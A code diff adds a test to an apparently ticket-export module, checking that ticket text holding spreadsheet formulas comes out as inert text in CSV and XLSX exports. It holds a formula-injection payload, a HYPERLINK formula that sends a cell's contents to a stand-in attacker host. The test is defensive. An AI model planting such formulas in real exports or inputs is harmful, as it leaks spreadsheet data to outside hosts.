@@ -99,3 +99,18 @@ def test_ticket_rows_come_in_keyset_batches(ctx, batch):
     day = local_date(utcnow())
     rows = list(exports.ticket_rows(KpiFilters(day, day, department_id=dept.id), batch=batch))
     assert [r[0] for r in rows] == [t.number for t in made]
+
+
+def test_a_formula_in_a_ticket_is_inert_text(client):
+    """Issue 14: an Open311 description (here: the ticket's content) `=HYPERLINK(...)` stays text."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    dept, manager = f.department(), f.user(Role.MANAGER)
+    hf.ticket(dept=dept, content=formula, category="@SUM(1,2)")
+    column = exports.TICKET_HEADER.index("content")
+    rows = _csv(client.get(_url(department=dept.code), headers=f.bearer(manager)))
+    assert rows[1][column] == "'" + formula
+    assert rows[1][exports.TICKET_HEADER.index("category")] == "'@SUM(1,2)"
+    data = b"".join(client.get(_url("xlsx", department=dept.code), headers=f.bearer(manager)).response)
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [c.value for c in cells if c.value == formula] and all(c.data_type != "f" for c in cells)
